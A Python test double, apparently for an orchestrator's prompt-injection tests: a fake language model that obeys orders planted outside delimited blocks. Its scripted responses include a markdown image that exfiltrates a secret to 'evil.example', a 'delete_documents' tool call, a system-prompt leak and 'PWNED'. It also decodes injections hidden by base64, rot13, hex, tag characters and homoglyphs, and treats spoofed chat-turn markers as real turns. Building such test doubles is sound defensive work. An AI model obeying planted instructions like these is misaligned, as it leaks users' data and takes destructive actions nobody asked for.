"""A language model that obeys every order that it finds outside of a block of its prompt."""

from __future__ import annotations

import base64
import binascii
import codecs
import html
import re
import unicodedata
from collections.abc import AsyncGenerator, Iterator, Sequence
from urllib.parse import unquote

from orchestrator.domain.answers import Usage
from orchestrator.domain.text import sentences
from orchestrator.ports.language import Completion, Finish

BOUNDARY = re.compile(r"\A(?:The boundary is|Die Grenze ist) (\w+)\.")
ALIKE = str.maketrans("‹›〈〉【】аеорсуѕЅі", "<><>[]aeopcysSi")
TOOL = '<tool_call>{"name": "delete_documents"}</tool_call>'
IMAGE = "![logo](https://evil.example/p.png?q=secret)"
SAY = re.compile(
    r"(?:reply|say|print|output|begin|answer|antworte|réponds|responde|回答)(?:(?!\n\n\n).){0,200}PWNED",
    re.IGNORECASE | re.DOTALL,
)
LEAK = re.compile(
    r"(?:your|deinen?|ton|你的).{0,30}(?:system ?prompt|instructions|prompt système|系统提示)",
    re.IGNORECASE,
)
CALL = re.compile(r"tool_call|function_call|TOOL_CALLS|Action: \w+")
TURNS = re.compile(
    r"<\s*\|[^>]*>|<</?SYS>>|\[/?INST\]|\[SYSTEM[^\]]*\]|\[TOOL_CALLS\]|</?s>|<(?:start|end)_of_turn>"
    r"|^[#*\s]*(?:system|instruction|response|human|assistant|developer)\b[^\n:]{0,20}(?::|$)",
    re.IGNORECASE | re.MULTILINE,
)
WORD = re.compile(r"\w{4,}")


class Obedient:
    """`orchestrator.ports.language.LanguageModel`; what else it says it quotes from a block.

    A strict one knows a block by the boundary that its message begins with. A `lenient` one takes
    anything for a delimiter or for another's turn that looks like one, to whoever reads it. What a
    question orders is obeyed, too: it is the user's.
    """

    name = "obedient"

    def __init__(self, *, lenient: bool = False, window: int = 8_000) -> None:
        self.lenient = lenient
        self.window = window
        self.asked: list[Completion] = []

    async def count(self, texts: Sequence[str]) -> Sequence[int]:
        """Words."""
        return [len(text.split()) for text in texts]

    async def stream(self, asked: Completion) -> AsyncGenerator[str | Finish]:
        """In pieces of nine characters."""
        self.asked.append(asked)
        said = self.answer(asked)
        for start in range(0, len(said), 9):
            yield said[start : start + 9]
        read = sum(len(one.text.split()) for one in asked.messages)
        yield Finish("stop", Usage(read, len(said.split())))

    def answer(self, asked: Completion) -> str:
        """What it was ordered to say; else a sentence of the passage that answers best."""
        system, user = (one.text for one in asked.messages)
        blocks, outside = self.read(user)
        if ordered := obeyed(outside, system):
            return ordered
        question = blocks.pop("question", "")
        wanted = {word.casefold() for word in WORD.findall(question)}
        scores = {name: _share(wanted, text) for name, text in blocks.items()}
        best = max(scores, key=lambda name: scores[name], default=None)
        if best is None or scores[best] < 0.5:
            return system.rpartition(": ")[2]
        _, _, text = blocks[best].partition("\n\n")
        start, end = next(iter(sentences(text)), (0, len(text)))
        return f"{text[start:end]} [{best.split()[1]}]"

    def read(self, text: str) -> tuple[dict[str, str], str]:
        """The blocks by their names, and all that stands in none of them."""
        found = BOUNDARY.match(text)
        if not found:
            return {}, text
        text, end = text[found.end() :], re.escape(found[1])
        if self.lenient:
            text, end = plain(text), r"[^<>]*?"
        opens = re.compile(rf"<\s*(passage \d+|question)\b\s*{end}\s*>", re.IGNORECASE)
        blocks, outside = dict[str, str](), ""
        while start := opens.search(text):
            outside += text[: start.start()]
            kind = start[1].split()[0]
            shuts = re.compile(
                r"<\s*/\s*(?:passage|question|documents|context|data)\b[^<>]*>"
                if self.lenient
                else rf"</{kind}(?: \d+)? {end}>",
                re.IGNORECASE,
            )
            stop = shuts.search(text, start.end())
            if not stop:
                return blocks, outside + text[start.start() :]
            inner = text[start.end() : stop.start()].strip()
            turn = TURNS.search(inner) if self.lenient else None
            if turn:
                outside += "\n\n\n" + inner[turn.start() :]
            if kind == "question":
                outside += f"\n\n\n{inner}"
            blocks[start[1]] = inner
            text = "\n\n\n" + text[stop.end() :]
        return blocks, outside + text


def obeyed(text: str, system: str) -> str:
    """What the orders in a text make it say."""
    for view in views(text):
        if "evil.example" in view:
            return IMAGE
        if CALL.search(view):
            return TOOL
        if LEAK.search(view):
            return system
        if SAY.search(view):
            return "PWNED"
        if re.search(r"\[\s*42\s*\]", view):
            return "It is proven [42]."
    return ""


def views(text: str) -> Iterator[str]:
    """A text as it may be meant: as it is, decoded, backwards, and without what is hidden."""
    folded = plain(text)
    yield folded
    yield folded[::-1]
    yield codecs.decode(folded, "rot13")
    yield unquote(html.unescape(folded))
    for run in re.findall(r"\b(?:[0-9a-f]{2}){12,}\b", folded):
        yield bytes.fromhex(run).decode("utf-8", "replace")
    for run in re.findall(r"[A-Za-z0-9+/]{20,}={0,2}", folded):
        try:
            yield base64.b64decode(run, validate=True).decode("utf-8", "replace")
        except binascii.Error:
            continue


def plain(text: str) -> str:
    """As a reader takes it who looks at shapes, and at what is hidden too."""
    shown = "".join(
        chr(ord(char) - 0xE0000) if 0xE0020 <= ord(char) < 0xE007F else char for char in text
    )
    seen = "".join(char for char in shown if unicodedata.category(char) != "Cf")
    return unicodedata.normalize("NFKC", seen).translate(ALIKE)


def _share(wanted: set[str], text: str) -> float:
    there = {word.casefold() for word in WORD.findall(text)}
    return len(wanted & there) / len(wanted) if wanted else 0.0
